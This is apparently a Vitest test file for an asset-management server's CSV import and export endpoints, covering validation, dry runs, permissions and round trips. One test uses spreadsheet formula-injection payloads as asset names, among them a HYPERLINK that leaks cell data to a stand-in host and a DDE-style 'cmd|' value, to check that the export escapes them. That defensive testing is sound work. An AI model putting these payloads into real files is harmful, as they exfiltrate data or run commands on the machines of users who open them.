import { describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import type { ImportAnswer } from '../../../server/modules/assets/csv.ts';
import type { Harness } from '../harness.ts';
import { newKey } from '../resources/helpers.ts';
import { adminWith, assetHarness, csvUpload, type Paged, sshAsset, storedAsset } from './helpers.ts';

/** A key sealed with its passphrase (imported with it), and a plain one. */
const KEY = newKey('Csv-Passphrase').privateKey;
const PLAIN_KEY = newKey().privateKey;

const count = async (h: Harness, table: 'assets' | 'assetTags' | 'tags' | 'assetAttributes') => Number((await h.db.selectFrom(table).select((eb) => eb.fn.countAll().as('n')).executeTakeFirstOrThrow()).n);

/** Good rows, short rows and bad rows, with a blank line and quoted fields that span lines (a key, a description). */
const MIXED = [
  '\uFEFFweb-1,ssh,10.0.0.1,22,root,Csv-Pass-One,,,front,prod|web', // 1
  '', // 2: blank, skipped
  'short,ssh,10.0.0.3,22', // 3
  'bad-proto,ftp,10.0.0.4,21,u,p,,,d', // 4
  'bad-port,ssh,10.0.0.5,0,u,p,,,d', // 5
  ',ssh,10.0.0.6,22,u,p,,,d', // 6
  'no-ip,ssh,,22,u,p,,,d', // 7
  'web-1,rdp,10.0.0.7,3389,u,p,,,d', // 8: duplicate of row 1
  'taken,vnc,10.0.0.8,5900,u,p,,,d', // 9: taken in the database
  'too-many,ssh,10.0.0.9,22,u,p,,,d,t,extra', // 10
  '  win-1 , rdp ,10.0.1.1, 3389 ,Administrator,Win-Pass-Two,,,,  windows | prod  ', // 11
  'bad-key,ssh,10.0.0.10,22,u,,not a key,,d', // 12
  `db-1,ssh,10.0.0.2,22,admin,ignored-Pass,"${KEY}",Csv-Passphrase,"two`, // 13: the key spans lines, then the description
  'lines",prod|db',
  'after,telnet,10.0.0.11,23,u,Csv-Pass-Three,,,d', // the line after the quoted line breaks
].join('\r\n');
/** The line of the last record: 13 + the key's line breaks + the description's. */
const AFTER = 13 + KEY.split('\n').length - 1 + 1 + 1;

describe('POST /assets/import', () => {
  it('refuses a host that is neither an address nor a name, as the form does', async () => {
    const { api } = await assetHarness();
    const answer = await api.ok<ImportAnswer>('POST', '/assets/import', csvUpload('bad,ssh,999.1.1.1,22,u,p,,,d\r\nurl,ssh,http://x.com/,22,u,p,,,d\r\n'));
    expect(answer.data).toEqual({ '1': '主机地址不是正确的主机名或IP地址', '2': '主机地址不是正确的主机名或IP地址' });
  });

  it('imports the good rows and reports every bad one by line number', async () => {
    const { h, api } = await assetHarness();
    await api.ok('POST', '/assets', { body: sshAsset({ name: 'taken', tags: '' }) });
    const answer = await api.ok<ImportAnswer>('POST', '/assets/import', csvUpload(MIXED));
    expect(answer.data).toEqual({
      '3': '列数不足：需要9列（第10列标签可选），只有4列',
      '4': '协议无效：「ftp」，应为 ssh、rdp、vnc、telnet、kubernetes 之一',
      '5': '端口无效：「0」，应为1–65535',
      '6': '资产名称不能为空',
      '7': '主机地址不能为空',
      '8': '资产名称「web-1」与第1行重复',
      '9': '资产名称「taken」已被使用',
      '10': '列数过多：最多10列，实际11列',
      '12': expect.stringMatching(/^无法解析私钥：/),
    });
    expect([answer.successCount, answer.errorCount]).toEqual([4, 9]);
    expect(answer.rows.map((r) => r.row)).toEqual([1, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, AFTER]);
    expect(answer.rows[0]).toEqual({ row: 1, name: 'web-1', protocol: 'ssh', ip: '10.0.0.1', port: 22, username: 'root', tags: ['prod', 'web'], error: null });
    expect(answer.rows[3]).toMatchObject({ row: 5, name: 'bad-port', port: null, error: '端口无效：「0」，应为1–65535' });
    expect(answer.rows[9]).toEqual({ row: 11, name: 'win-1', protocol: 'rdp', ip: '10.0.1.1', port: 3389, username: 'Administrator', tags: ['windows', 'prod'], error: null });
    expect(answer.rows[12]).toMatchObject({ row: AFTER, name: 'after', error: null });

    const web = await storedAsset(h, 'web-1');
    expect(web).toMatchObject({ protocol: 'ssh', ip: '10.0.0.1', port: 22, accountType: 'custom', username: 'root', description: 'front', privateKey: null, passphrase: null, active: 0, activeMessage: '' });
    expect(h.box.decrypt(web.password!)).toBe('Csv-Pass-One');
    // A private key makes a key account; the password of that row is not kept.
    const db = await storedAsset(h, 'db-1');
    expect(db).toMatchObject({ accountType: 'private-key', password: null, description: 'two\nlines' });
    expect([h.box.decrypt(db.privateKey!), h.box.decrypt(db.passphrase!)]).toEqual([KEY, 'Csv-Passphrase']);
    expect(await api.ok('GET', '/tags')).toEqual(['db', 'prod', 'web', 'windows']);
    expect(await api.ok('GET', '/assets/paging', { query: { tags: 'prod,windows' } })).toMatchObject({ total: 1, items: [{ name: 'win-1', tags: 'prod,windows' }] });
    expect(await count(h, 'assets')).toBe(5);
  });

  it('dry run: the same answer, nothing written', async () => {
    const { h, api } = await assetHarness();
    await api.ok('POST', '/assets', { body: sshAsset({ name: 'taken', tags: 'existing' }) });
    const before = await Promise.all((['assets', 'assetTags', 'tags', 'assetAttributes'] as const).map((t) => count(h, t)));
    const dry = await api.ok<ImportAnswer>('POST', '/assets/import', { query: { dryRun: 'true' }, ...csvUpload(MIXED) });
    expect(await Promise.all((['assets', 'assetTags', 'tags', 'assetAttributes'] as const).map((t) => count(h, t)))).toEqual(before);
    const real = await api.ok<ImportAnswer>('POST', '/assets/import', { query: { dryRun: 'false' }, ...csvUpload(MIXED) });
    expect(real).toEqual(dry);
    expect(await count(h, 'assets')).toBe(before[0]! + 4);
    // Once imported, the same file is all duplicates.
    const again = await api.ok<ImportAnswer>('POST', '/assets/import', { query: { dryRun: 'true' }, ...csvUpload(MIXED) });
    expect(again.successCount).toBe(0);
    expect(again.data['1']).toBe('资产名称「web-1」已被使用');
  });

  it('refuses an empty file, a file that is not UTF-8, malformed CSV, a missing file part and an oversized file', async () => {
    const { h, api } = await assetHarness();
    const refusals: [Parameters<typeof csvUpload>, string][] = [
      [[''], 'CSV数据为空'],
      [['\uFEFF\r\n\r\n,,,\n'], 'CSV数据为空'],
      [[Buffer.from([0x77, 0x65, 0x62, 0x2c, 0xb7, 0xfe, 0xce, 0xf1, 0x2c, 0x68])], 'CSV文件须为UTF-8编码'],
      [['a,ssh,h,22,u,p,,,d\nb,ssh,"h,22,u,p,,,d\n'], 'CSV格式错误：第2行，Quote Not Closed: the parsing is finished with an opening quote at line 2'],
      [['a,ssh,h,22,u,p,,,d', 'upload'], '请选择要导入的CSV文件（表单字段 file）'],
    ];
    for (const [args, message] of refusals) expect((await api.call('POST', '/assets/import', csvUpload(...args))).body, message).toEqual({ code: -1, message });
    expect((await api.call('POST', '/assets/import')).body).toEqual({ code: -1, message: '请选择要导入的CSV文件（表单字段 file）' });
    const big = `${'x'.repeat(99)}\n`.repeat(90_000);
    expect((await api.call('POST', '/assets/import', csvUpload(big))).body.code).toBe(413);
    expect((await api.call('POST', '/assets/import', { query: { dryRun: 'yes' }, ...csvUpload('a') })).body.code).toBe(400);
    expect(await count(h, 'assets')).toBe(0);
  });

  it('is gated by asset-import', async () => {
    const { h } = await assetHarness();
    const importer = await adminWith(h, ['asset-import'], 'importer');
    const other = await adminWith(h, ['asset-add', 'asset-edit'], 'other');
    expect((await h.call('POST', '/assets/import', { token: importer.token, ...csvUpload('a,ssh,h,22,u,Import-Pass-1,,,d') })).body).toMatchObject({ code: 1, data: { successCount: 1 } });
    expect((await storedAsset(h, 'a')).owner).toBe(importer.id);
    expect((await h.call('POST', '/assets/import', { token: other.token, ...csvUpload('b,ssh,h,22,u,p,,,d') })).body.code).toBe(403);
  });
});

describe('GET /assets/export', () => {
  it('downloads the filtered list as CSV in the import format, secrets empty, with the token in the query', async () => {
    const { h, api, root } = await assetHarness();
    await api.ok('POST', '/assets', { body: sshAsset({ name: 'web-1', tags: 'prod,web' }) });
    await api.ok('POST', '/assets', { body: sshAsset({ name: 'db-1', tags: 'prod,db', accountType: 'private-key', privateKey: PLAIN_KEY }) });
    await api.ok('POST', '/assets', { body: sshAsset({ name: 'win-1', protocol: 'rdp', port: 3389, tags: '' }) });

    const res = await h.call('GET', '/assets/export', { query: { 'X-Auth-Token': root, tags: 'prod', field: 'name', order: 'ascend' } });
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="assets-\d{8}-\d{6}\.csv"$/);
    expect(res.headers['cache-control']).toBe('no-store');
    // Every cell quoted (issue 28): no cell is ever read as more than text.
    expect(res.text).toBe(
      '\uFEFF"db-1","ssh","10.0.0.1","22","root","","","","front web server","db|prod"\r\n"web-1","ssh","10.0.0.1","22","root","","","","front web server","prod|web"\r\n',
    );

    // Without a token: the 401 envelope, not a file.
    expect((await h.call('GET', '/assets/export')).body).toEqual({ code: 401, message: '您的登录信息已失效，请重新登录后再试。' });
    const reader = await adminWith(h, ['asset-detail'], 'reader');
    expect((await h.call('GET', '/assets/export', { query: { 'X-Auth-Token': reader.token } })).body.code).toBe(403);
    expect((await h.call('GET', '/assets/export', { query: { 'X-Auth-Token': root, port: 'x' } })).body.code).toBe(400);
    // Nothing matches: an empty file (just the BOM).
    expect((await h.call('GET', '/assets/export', { query: { 'X-Auth-Token': root, name: 'nothing' } })).text).toBe('\uFEFF');
  });

  it('guards cells a spreadsheet would run as a formula (= + - @), and the import takes the guard off again', async () => {
    const { h, api, root } = await assetHarness();
    const names = ['=HYPERLINK("http://x.invalid/?"&A1,"click")', '+1', '-5', '@SUM(1+1)*cmd|', "'=already quoted", "'plain", 'a=b'];
    for (const [i, name] of names.entries()) await api.ok('POST', '/assets', { body: sshAsset({ name, description: i === 0 ? '-starts with a dash' : 'd', tags: i === 0 ? '=t,x' : '' }) });
    const csv = (await h.call('GET', '/assets/export', { query: { 'X-Auth-Token': root, field: 'name', order: 'ascend' } })).text;
    const cells = (parse(csv, { bom: true }) as string[][]).map((r) => [r[0], r[8], r[9]]);
    expect(cells).toEqual([
      ["''=already quoted", 'd', ''],
      ["'plain", 'd', ''],
      ["'+1", 'd', ''],
      ["'-5", 'd', ''],
      ['\'=HYPERLINK("http://x.invalid/?"&A1,"click")', "'-starts with a dash", "'=t|x"],
      ["'@SUM(1+1)*cmd|", 'd', ''],
      ['a=b', 'd', ''],
    ]);
    const before = await h.db.selectFrom('assets').select(['name', 'description']).orderBy('name').execute();
    const ids = (await api.ok<{ id: string }[]>('GET', '/assets')).map((a) => a.id);
    await api.ok('DELETE', `/assets/${ids.join(',')}`);
    expect(await api.ok<ImportAnswer>('POST', '/assets/import', csvUpload(csv))).toMatchObject({ successCount: names.length, errorCount: 0 });
    expect(await h.db.selectFrom('assets').select(['name', 'description']).orderBy('name').execute()).toEqual(before);
    const first = await h.db.selectFrom('assets').select('id').where('name', '=', names[0]!).executeTakeFirstOrThrow();
    expect((await api.ok<{ tags: string }>('GET', `/assets/${first.id}`)).tags).toBe('=t,x');
  });

  it('round trip: what the export writes, the import reads back the same', async () => {
    const { h, api, root } = await assetHarness();
    const tricky: Record<string, unknown>[] = [
      sshAsset({ name: 'comma, "quoted" name', description: 'line one\nline two, with "quotes"', tags: 'a b,中文' }),
      sshAsset({ name: '  spaced  ', ip: 'host.example', port: 2222, username: ' lead space', description: '', tags: '' }),
      sshAsset({ name: '服务器-1', protocol: 'telnet', port: 23, username: '', description: '=1+1', tags: 'x' }),
      sshAsset({ name: 'k', protocol: 'kubernetes', port: 6443, description: '-', tags: 'k8s' }),
    ];
    for (const body of tricky) await api.ok('POST', '/assets', { body });
    const listed = async () =>
      (await api.ok<Paged<Record<string, unknown>>>('GET', '/assets/paging', { query: { field: 'name', order: 'ascend' } })).items.map(({ name, protocol, ip, port, description, tags }) => ({ name, protocol, ip, port, description, tags }));
    const before = await listed();
    const usernames = async () => (await h.db.selectFrom('assets').select(['name', 'username']).orderBy('name').execute()).map((a) => a.username);
    const usersBefore = await usernames();

    const csv = (await h.call('GET', '/assets/export', { query: { 'X-Auth-Token': root } })).text;
    // A CSV library other than ours reads it as 4 records of 10 columns.
    expect(parse(csv, { bom: true }).map((r: string[]) => r.length)).toEqual([10, 10, 10, 10]);

    const ids = (await api.ok<{ id: string }[]>('GET', '/assets')).map((a) => a.id);
    await api.ok('DELETE', `/assets/${ids.join(',')}`);
    const answer = await api.ok<ImportAnswer>('POST', '/assets/import', csvUpload(csv));
    expect([answer.successCount, answer.errorCount]).toEqual([4, 0]);
    expect(await listed()).toEqual(before);
    expect(await usernames()).toEqual(usersBefore);
  });
});
